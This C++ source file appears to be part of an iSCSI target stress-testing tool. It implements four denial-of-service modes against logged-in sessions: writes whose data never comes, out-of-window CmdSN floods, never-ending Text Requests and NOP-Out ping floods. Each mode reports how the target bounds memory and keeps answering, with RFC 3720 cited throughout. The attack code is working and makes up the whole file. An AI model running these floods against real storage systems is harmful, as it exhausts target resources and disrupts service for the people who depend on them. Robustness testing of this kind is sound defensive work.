// Attacks from sessions in full feature phase: writes whose data never comes, commands
// far outside the CmdSN window, Text Requests that never end, and NOP-Out pings sent
// faster than their answers are read.
#include <poll.h>

#include <algorithm>
#include <cstdio>
#include <thread>

#include "modes.hpp"

namespace hostile {

namespace {

struct Live {
    Link link;
    Session s;
    Clock::time_point last_cmd{};
    bool closed_noted = false;
};

// Logs in `n` sessions of one initiator (distinct ISIDs). Counts what failed.
std::vector<Live> open_sessions(const Options& opt, int n, std::uint8_t mode, const Keys& keys, Counts& c) {
    std::vector<Live> v;
    v.reserve(static_cast<std::size_t>(n));
    for (int i = 0; i < n && !g_stop; ++i) {
        Live l;
        l.s.isid = make_isid(mode, static_cast<std::uint32_t>(i));
        std::string e = l.link.connect(opt, 1000);
        if (!e.empty()) {
            c.add("connect failed: " + e);
            continue;
        }
        auto r = login(l.link, l.s, opt, opt.initiator, keys, 2000);
        if (!r.ok) {
            c.add(r.status ? std::string("login refused: ") + login_status_name(r.status) : "login failed: " + r.why);
            continue;
        }
        c.add("sessions logged in");
        v.push_back(std::move(l));
    }
    return v;
}

// Reads what arrived on every open session, answers the target's pings, and hands each
// other PDU to `on`. Notes sessions the target closed (once) through `closed`.
template <class On, class Closed>
void service(std::vector<Live>& all, int timeout_ms, On on, Closed closed) {
    std::vector<pollfd> fds;
    std::vector<Live*> who;
    for (auto& l : all)
        if (l.link.open()) {
            fds.push_back({l.link.fd(), POLLIN, 0});
            who.push_back(&l);
        }
    if (fds.empty()) {
        std::this_thread::sleep_for(std::chrono::milliseconds(timeout_ms));
        return;
    }
    ::poll(fds.data(), fds.size(), timeout_ms);
    for (std::size_t i = 0; i < fds.size(); ++i) {
        if (!fds[i].revents) continue;
        Live& l = *who[i];
        const bool alive = l.link.pump();
        Pdu p;
        while (l.link.next_pdu(p)) {
            l.s.note(p);
            if (auto a = answer_ping(l.s, p); !a.empty()) {
                l.link.send_all(a, 200);
                continue;
            }
            on(l, p);
        }
        if (!alive) {
            closed(l);
            l.link.close();
        }
    }
}

void store32(std::uint8_t* p, std::uint32_t v) {
    for (int i = 0; i < 4; ++i) p[i] = static_cast<std::uint8_t>(v >> (24 - 8 * i));
}

std::string hex(unsigned v) {
    char b[16];
    std::snprintf(b, sizeof b, "0x%02x", v);
    return b;
}

std::string status_name(std::uint8_t status) {
    switch (status) {
        case 0x00: return "GOOD";
        case 0x02: return "CHECK CONDITION";
        case 0x08: return "BUSY";
        case 0x18: return "RESERVATION CONFLICT";
        case 0x28: return "TASK SET FULL";
        default: return hex(status);
    }
}

// "SCSI Response CHECK CONDITION (sense key 5)" and the like, for the counts.
std::string response_text(const Pdu& p) {
    std::string t = "SCSI Response " + status_name(p.bhs[3]);
    if (p.bhs[2] != 0) t += " (iSCSI response " + hex(p.bhs[2]) + ")";
    // §10.4.7: SenseLength (2 bytes), then fixed or descriptor sense data.
    if (p.bhs[3] == 0x02 && p.data.size() >= 2 + 3) {
        const std::uint8_t* sense = p.data.data() + 2;
        const int key = (sense[0] & 0x7f) >= 0x72 ? sense[1] & 0x0f : sense[2] & 0x0f;
        t += " sense key " + std::to_string(key);
    }
    return t;
}

}  // namespace

// RFC 3720 §10.3 / §10.8: with InitialR2T=Yes and ImmediateData=No, every byte of a
// WRITE is solicited by R2T. Each session fills its CmdSN window with WRITE(16) commands
// of the largest EDTL the target takes and sends no Data-Out at all (write-no-data), or
// answers each R2T with one Data-Out of 512 bytes and F=0 and then nothing more
// (write-partial-data: the first data of a write is where a target commits its buffer).
// The target must not commit memory on the initiator's word alone, must bound what the
// started writes hold, and must end the sessions after RspTimeout (iSCSI-SCST's timeout
// for an initiator that stops answering).
namespace {
int write_attack(const Options& opt, bool partial) {
    const char* mode = partial ? "write-partial-data" : "write-no-data";
    const int n = opt.count > 0 ? opt.count : 32;
    raise_fd_limit();
    Counts c;
    Keys keys = default_operational_keys();
    for (auto& [k, v] : keys) {
        if (k == "InitialR2T") v = "Yes";
        if (k == "ImmediateData") v = "No";
        if (k == "MaxBurstLength" || k == "FirstBurstLength") v = "16777215";  // §12.13: at most 2^24-1
    }
    const auto start = Clock::now();
    std::vector<Live> all = open_sessions(opt, n, partial ? 8 : 3, keys, c);
    if (all.empty()) {
        c.print(mode);
        std::printf("summary: %s: no session could log in\n", mode);
        return 1;
    }
    std::printf("negotiated: InitialR2T=%s ImmediateData=%s MaxBurstLength=%u\n", all[0].s.initial_r2t ? "Yes" : "No",
                all[0].s.immediate_data ? "Yes" : "No", all[0].s.max_burst);

    // §10.7: one Data-Out at the R2T's offset, its TTT copied, 512 bytes, F=0: the burst
    // is announced to go on and never does; the last activity of the session is now.
    const Bytes some(512, 0xa5);
    std::uint32_t datasn = 0;
    auto answer_r2t = [&](Live& l, const Pdu& r2t) {
        Bhs b{};
        b[0] = op::DataOut;
        std::copy(r2t.bhs.begin() + 8, r2t.bhs.begin() + 16, b.begin() + 8);  // LUN
        put32(b, 16, r2t.itt());
        put32(b, 20, r2t.u32(20));  // TTT
        put32(b, 28, l.s.expstatsn);
        put32(b, 36, datasn++);     // DataSN: per R2T; no other Data-Out of this one follows
        put32(b, 40, r2t.u32(40));  // Buffer Offset
        if (l.link.send_all(frame(b, some), 500)) c.add("Data-Out sent (512 bytes, F=0)");
        datasn = 0;
        l.last_cmd = Clock::now();
    };
    // The largest EDTL the target takes: 8 MiB, halved while it answers CHECK CONDITION.
    std::uint32_t edtl = 8u << 20;
    std::uint64_t next_lba = 0;
    auto write_cmd = [&](Live& l) {
        const std::uint32_t blocks = edtl / opt.block_size;
        Bytes b = frame(scsi_bhs(l.s, cdb_write16(next_lba, blocks), false, true, edtl));
        next_lba += blocks;
        l.last_cmd = Clock::now();
        return b;
    };
    for (;;) {
        Live& l = all[0];
        if (!l.link.send_all(write_cmd(l), 1000)) break;
        c.add("WRITE(16) sent");
        Pdu p;
        auto got = l.link.read_pdu(p, 1000);
        if (got != Link::Got::pdu) {
            c.add(got == Link::Got::timeout ? "first WRITE: no answer in 1 s (kept)"
                                            : "first WRITE: connection closed");
            break;
        }
        l.s.note(p);
        if (p.opcode() == op::R2T) {
            c.add("R2T received");
            if (partial) answer_r2t(l, p);
            break;
        }
        c.add("first WRITE answered: " + (p.opcode() == op::ScsiResponse ? response_text(p) : opcode_name(p.opcode())));
        if (p.opcode() != op::ScsiResponse || edtl <= 65536) break;
        edtl /= 2;
    }
    std::printf("EDTL used: %u bytes\n", edtl);

    // Fill every window; refill it as the target answers (a refused command frees its
    // CmdSN), up to 4096 commands per session.
    std::vector<double> closed_after;
    std::map<const Live*, long> sent;
    auto fill = [&] {
        for (auto& l : all) {
            while (l.link.open() && l.s.window_left() > 0 && sent[&l] < 4096) {
                if (!l.link.send_all(write_cmd(l), 500)) break;
                ++sent[&l];
                c.add("WRITE(16) sent");
            }
        }
    };
    fill();
    while (time_left(start, opt.seconds)) {
        service(
            all, 100,
            [&](Live& l, const Pdu& p) {
                if (p.opcode() == op::R2T) {
                    c.add(partial ? "R2T received (answered with 512 bytes)" : "R2T received (never answered)");
                    if (partial) answer_r2t(l, p);
                } else if (p.opcode() == op::ScsiResponse) {
                    c.add(response_text(p));
                } else {
                    c.add(std::string(opcode_name(p.opcode())) + " received");
                }
            },
            [&](Live& l) {
                const double after = seconds_since(l.last_cmd);
                closed_after.push_back(after);
                c.add(l.link.reset_by_peer() ? "sessions reset by the target" : "sessions closed by the target");
                if (opt.expect_close > 0 && after > opt.expect_close) c.add("closed later than expected");
            });
        fill();
    }
    long open_at_end = 0, overdue = 0;
    for (auto& l : all)
        if (l.link.open()) {
            ++open_at_end;
            if (opt.expect_close > 0 && seconds_since(l.last_cmd) > opt.expect_close) ++overdue;
        }
    c.add("sessions open at the end", open_at_end);
    c.print(mode);
    long refused = 0;
    for (const auto& [k, v] : c.n)
        if (k.rfind("SCSI Response", 0) == 0) refused += v;
    std::printf("did: closed %zu of %zu sessions %s after their last PDU, answered %ld of %ld WRITEs with a "
                "status\n",
                closed_after.size(), all.size(), spread(closed_after).c_str(), refused, c.get("WRITE(16) sent"));
    std::printf("summary: %s: %zu sessions, %ld WRITE(16) of %u KiB sent, %ld R2T, %ld Data-Out; %ld answered with a "
                "status; target closed %zu sessions %s after their last PDU; %ld open at end; overdue=%ld\n",
                mode, all.size(), c.get("WRITE(16) sent"), edtl / 1024,
                c.get("R2T received") + c.get("R2T received (never answered)") +
                    c.get("R2T received (answered with 512 bytes)"),
                c.get("Data-Out sent (512 bytes, F=0)"), refused, closed_after.size(), spread(closed_after).c_str(),
                open_at_end, overdue + c.get("closed later than expected"));
    return 0;
}
}  // namespace

int write_no_data(const Options& opt) { return write_attack(opt, false); }
int write_partial_data(const Options& opt) { return write_attack(opt, true); }

// RFC 3720 §3.2.2.1: a command whose CmdSN is outside [ExpCmdSN, MaxCmdSN] is silently
// ignored. TEST UNIT READY and READ(10) of one block, numbered far past MaxCmdSN, as
// fast as the socket takes them; then an in-window command must still be answered.
int cmdsn_flood(const Options& opt) {
    Counts c;
    const auto start = Clock::now();
    std::vector<Live> all = open_sessions(opt, 1, 4, default_operational_keys(), c);
    if (all.empty()) {
        c.print("cmdsn-flood");
        std::printf("summary: cmdsn-flood: the session could not log in\n");
        return 1;
    }
    Live& l = all[0];
    const std::uint32_t far = l.s.maxcmdsn + 0x100000;
    constexpr int kBatch = 1024;
    // One batch of whole PDUs, restamped (ITT, CmdSN) each round.
    Session stamp = l.s;
    Bytes batch;
    for (int i = 0; i < kBatch; ++i) {
        Bhs b = i % 2 ? scsi_bhs(stamp, cdb_read10(static_cast<std::uint32_t>(i), 1), true, false, opt.block_size)
                      : scsi_bhs(stamp, cdb_test_unit_ready(), false, false, 0);
        Bytes f = frame(b);
        batch.insert(batch.end(), f.begin(), f.end());
    }
    std::uint64_t pdus = 0, bytes = 0;
    std::uint32_t itt = l.s.itt;
    std::size_t off = 0;
    bool failed = false;
    while (time_left(start, opt.seconds) && !failed) {
        if (off == 0) {
            for (int i = 0; i < kBatch; ++i) {
                std::uint8_t* b = batch.data() + static_cast<std::size_t>(i) * 48;
                if (itt == kReservedTag) itt = 1;
                store32(b + 16, itt++);
                // Far ahead of MaxCmdSN and never wrapping back into the window.
                store32(b + 24, far + static_cast<std::uint32_t>((pdus + static_cast<std::uint64_t>(i)) % 0x40000000u));
                store32(b + 28, l.s.expstatsn);
            }
        }
        long w = l.link.send_some(std::span<const std::uint8_t>(batch).subspan(off));
        if (w < 0) {
            failed = true;
            break;
        }
        off += static_cast<std::size_t>(w);
        bytes += static_cast<std::uint64_t>(w);
        if (off == batch.size()) {
            pdus += kBatch;
            off = 0;
        }
        if (w == 0) {
            pollfd p{l.link.fd(), POLLOUT | POLLIN, 0};
            ::poll(&p, 1, 10);
        }
        // Anything the target says back: nothing is due for an ignored command.
        if (!l.link.pump()) failed = true;
        Pdu p;
        while (l.link.next_pdu(p)) {
            l.s.note(p);
            if (auto a = answer_ping(l.s, p); !a.empty()) {
                l.link.send_all(a, 200);
                continue;
            }
            c.add(p.opcode() == op::ScsiResponse ? "answers to out-of-window commands (" + response_text(p) + ")"
                                                 : std::string(opcode_name(p.opcode())) + " received");
        }
    }
    if (off != 0 && !failed) {
        // Finish the PDU in flight so that the stream stays framed for the probe.
        l.link.send_all(std::span<const std::uint8_t>(batch).subspan(off, (48 - off % 48) % 48), 1000);
    }
    const double secs = seconds_since(start);
    c.add("out-of-window commands sent", static_cast<long>(pdus + off / 48));
    c.add("MiB sent", static_cast<long>(bytes >> 20));
    if (failed) c.add(l.link.reset_by_peer() ? "connection reset by the target" : "connection closed by the target");
    l.s.itt = itt;
    const auto t0 = Clock::now();
    const bool ok = !failed && probe(l.link, l.s, 3000, &c);
    const double ms = seconds_since(t0) * 1000;
    c.add(ok ? "in-window command answered afterwards" : "in-window command NOT answered afterwards");
    c.print("cmdsn-flood");
    std::printf("did: %s %llu commands out of the window, answered %ld, %s\n", failed ? "took" : "ignored",
                static_cast<unsigned long long>(pdus + off / 48), c.get("answers to out-of-window commands"),
                ok ? ("an in-window one answered in " + std::to_string(static_cast<long>(ms)) + " ms").c_str()
                   : "an in-window one NOT answered");
    std::printf("summary: cmdsn-flood: %llu out-of-window commands (%llu MiB, %.0f/s); %ld answered; target %s; "
                "in-window command afterwards: %s\n",
                static_cast<unsigned long long>(pdus + off / 48), static_cast<unsigned long long>(bytes >> 20),
                static_cast<double>(pdus) / std::max(secs, 0.001), c.get("answers to out-of-window commands"),
                failed ? "closed the connection" : "kept the connection",
                ok ? ("answered in " + std::to_string(static_cast<long>(ms)) + " ms").c_str() : "NOT answered");
    return 0;
}

// RFC 3720 §10.10.2: a Text Request with C=1 announces more text; the target answers
// each part with an empty Text Response and waits for the rest (§10.11). Here the rest
// never comes: a key name without end, continued part after part, on several ITTs at
// once and in three forms (numbered with TTT 0xffffffff, numbered with the TTT of the
// target's answer copied back as §10.10.4 says, and immediate). The target must bound
// what it keeps per connection and keep the session answering commands.
int text_no_finish(const Options& opt) {
    const int n = opt.count > 0 ? opt.count : 4;
    constexpr int kItts = 8;
    constexpr std::size_t kChunk = 4096;
    Counts c;
    const auto start = Clock::now();
    std::vector<Live> all = open_sessions(opt, n, 5, default_operational_keys(), c);
    if (all.empty()) {
        c.print("text-no-finish");
        std::printf("summary: text-no-finish: no session could log in\n");
        return 1;
    }
    struct Flow {
        std::map<std::uint32_t, std::uint32_t> ttt;  // by ITT, from the last answer
        int outstanding = 0;
        int next = 0;
    };
    std::map<const Live*, Flow> flows;
    const Bytes chunk(kChunk, 'K');  // a key name: no '=', no NUL, never ends
    static const char* form[] = {"numbered, TTT 0xffffffff", "numbered, TTT copied", "immediate"};
    auto pump_out = [&] {
        for (std::size_t i = 0; i < all.size(); ++i) {
            Live& l = all[i];
            Flow& f = flows[&l];
            const int v = static_cast<int>(i % 3);
            while (l.link.open() && f.outstanding < kItts && (v == 2 || l.s.window_left() > 0)) {
                const std::uint32_t itt = 0x7e000000u + static_cast<std::uint32_t>(f.next++ % kItts);
                const std::uint32_t ttt = v == 1 && f.ttt.count(itt) ? f.ttt[itt] : kReservedTag;
                if (!l.link.send_all(frame(text_bhs(l.s, itt, ttt, false, true, v == 2), chunk), 500)) break;
                ++f.outstanding;
                c.add(std::string("continued Text Requests sent (") + form[v] + ")");
            }
        }
    };
    pump_out();
    while (time_left(start, opt.seconds)) {
        service(
            all, 50,
            [&](Live& l, const Pdu& p) {
                Flow& f = flows[&l];
                if (p.opcode() == op::TextResponse) {
                    --f.outstanding;
                    f.ttt[p.itt()] = p.u32(20);
                    c.add(p.final_bit() ? "final Text Responses" : "empty Text Responses (continue)");
                } else if (p.opcode() == op::Reject) {
                    --f.outstanding;
                    c.add("Rejects (reason " + hex(p.bhs[2]) + ")");
                } else {
                    c.add(std::string(opcode_name(p.opcode())) + " received");
                }
            },
            [&](Live& l) {
                c.add(l.link.reset_by_peer() ? "sessions reset by the target" : "sessions closed by the target");
            });
        pump_out();
    }
    // Each session must still run a command (the probe reads past what is still owed).
    int answered = 0;
    for (auto& l : all)
        if (l.link.open() && probe(l.link, l.s, 3000)) ++answered;
    c.print("text-no-finish");
    long sent = 0, rejects = 0;
    for (const auto& [k, v] : c.n) {
        if (k.rfind("continued Text Requests sent", 0) == 0) sent += v;
        if (k.rfind("Rejects", 0) == 0) rejects += v;
    }
    std::printf("did: %ld empty Text Responses, %ld Rejects, %d of %zu sessions still run commands\n",
                c.get("empty Text Responses (continue)"), rejects, answered, all.size());
    std::printf("summary: text-no-finish: %zu sessions, %ld continued Text Requests (%zu KiB each), %ld empty "
                "responses, %ld rejects; %d of %zu sessions still run commands\n",
                all.size(), sent, kChunk / 1024, c.get("empty Text Responses (continue)"), rejects, answered,
                all.size());
    return 0;
}

// RFC 3720 §10.18-10.19: a NOP-Out with a valid ITT is a ping, answered by a NOP-In that
// carries its data back. Immediate pings (no CmdSN, so no window to hold them back) of
// the largest data segment the target takes, sent without reading the answers for a
// while, then read; over and over. The target must not queue the answers without bound:
// it should stop reading (TCP pushes back) or close the connection.
int nop_flood(const Options& opt) {
    Counts c;
    const auto start = Clock::now();
    // We declare the largest MaxRecvDataSegmentLength (§12.12: up to 2^24-1), so that
    // the target may echo every byte back.
    std::vector<Live> all = open_sessions(opt, 1, 6, default_operational_keys(16777215), c);
    if (all.empty()) {
        c.print("nop-flood");
        std::printf("summary: nop-flood: the session could not log in\n");
        return 1;
    }
    Live& l = all[0];
    const std::uint32_t size = std::min<std::uint32_t>(l.s.target_mrdsl, 16u << 20);
    std::printf("ping data: %u bytes (the target's MaxRecvDataSegmentLength)\n", size);
    const Bytes data(size, 0x5a);
    constexpr std::uint64_t kBurstCap = 512ull << 20;  // the most one unread burst may send
    const double burst_s = std::min(2.0, opt.seconds / 4);
    std::uint64_t sent_pings = 0, sent_bytes = 0, echoes = 0, echo_bytes = 0;
    std::vector<double> accepted_mib;  // per burst, before the socket stopped taking more
    int bursts = 0, stalled_bursts = 0;
    bool closed = false;
    std::uint32_t itt = 0x6e000000u;
    auto read_all = [&] {
        if (!l.link.pump()) closed = true;
        Pdu p;
        while (l.link.next_pdu(p)) {
            l.s.note(p);
            if (auto a = answer_ping(l.s, p); !a.empty()) {
                l.link.send_all(a, 200);
                continue;
            }
            if (p.opcode() == op::NopIn) {
                ++echoes;
                echo_bytes += p.data.size();
            } else if (p.opcode() == op::Reject) {
                c.add("Rejects (reason " + hex(p.bhs[2]) + ")");
            } else {
                c.add(std::string(opcode_name(p.opcode())) + " received");
            }
        }
    };
    while (time_left(start, opt.seconds) && !closed) {
        // A burst: pings only, no reading.
        ++bursts;
        const auto b0 = Clock::now();
        std::uint64_t burst_bytes = 0;
        bool stalled = false;
        while (!closed && seconds_since(b0) < burst_s && burst_bytes < kBurstCap && time_left(start, opt.seconds)) {
            Bytes pdu = frame(nop_out_bhs(l.s, itt++, kReservedTag, true), data);
            std::size_t off = 0;
            auto since = Clock::now();
            while (off < pdu.size()) {
                long w = l.link.send_some(std::span<const std::uint8_t>(pdu).subspan(off));
                if (w < 0) {
                    closed = true;
                    break;
                }
                if (w > 0) {
                    off += static_cast<std::size_t>(w);
                    burst_bytes += static_cast<std::uint64_t>(w);
                    since = Clock::now();
                    continue;
                }
                // The socket takes nothing: the target stopped reading. Half a second of
                // that is back-pressure; finish the PDU only once we read again.
                if (seconds_since(since) > 0.5 || !time_left(start, opt.seconds)) {
                    stalled = true;
                    break;
                }
                pollfd p{l.link.fd(), POLLOUT, 0};
                ::poll(&p, 1, 20);
            }
            if (closed) break;
            if (stalled) {
                // Finish the PDU while reading, so that the stream stays framed.
                while (off < pdu.size() && !closed && !g_stop) {
                    read_all();
                    long w = l.link.send_some(std::span<const std::uint8_t>(pdu).subspan(off));
                    if (w < 0) closed = true;
                    else off += static_cast<std::size_t>(w);
                    if (w == 0) {
                        pollfd p{l.link.fd(), POLLOUT | POLLIN, 0};
                        ::poll(&p, 1, 20);
                    }
                }
                ++sent_pings;
                break;
            }
            ++sent_pings;
        }
        sent_bytes += burst_bytes;
        accepted_mib.push_back(static_cast<double>(burst_bytes) / (1 << 20));
        if (stalled) ++stalled_bursts;
        // Then read until every answer is in (or a while has passed).
        const auto r0 = Clock::now();
        while (!closed && echoes < sent_pings && seconds_since(r0) < 3.0 && !g_stop) {
            pollfd p{l.link.fd(), POLLIN, 0};
            ::poll(&p, 1, 50);
            read_all();
        }
    }
    if (closed) c.add(l.link.reset_by_peer() ? "connection reset by the target" : "connection closed by the target");
    c.add("bursts", bursts);
    c.add("bursts the target pushed back on (stopped reading)", stalled_bursts);
    c.add("pings sent", static_cast<long>(sent_pings));
    c.add("MiB of pings sent", static_cast<long>(sent_bytes >> 20));
    c.add("echoes received", static_cast<long>(echoes));
    c.add("MiB of echoes received", static_cast<long>(echo_bytes >> 20));
    const bool ok = !closed && probe(l.link, l.s, 3000, &c);
    c.print("nop-flood");
    double most = 0;
    for (double m : accepted_mib) most = std::max(most, m);
    std::printf("did: %s after at most %.0f MiB unread on %d of %d bursts, %llu of %llu pings answered\n",
                stalled_bursts ? "stopped reading" : "never stopped reading", most, stalled_bursts, bursts,
                static_cast<unsigned long long>(echoes), static_cast<unsigned long long>(sent_pings));
    std::printf("summary: nop-flood: %llu pings of %u KiB (%llu MiB) in %d bursts; the most one unread burst got in: "
                "%.0f MiB; pushed back on %d bursts; %llu echoes; target %s; in-window command afterwards: %s\n",
                static_cast<unsigned long long>(sent_pings), size / 1024,
                static_cast<unsigned long long>(sent_bytes >> 20), bursts, most, stalled_bursts,
                static_cast<unsigned long long>(echoes), closed ? "closed the connection" : "kept the connection",
                ok ? "answered" : "NOT answered");
    return 0;
}

}  // namespace hostile
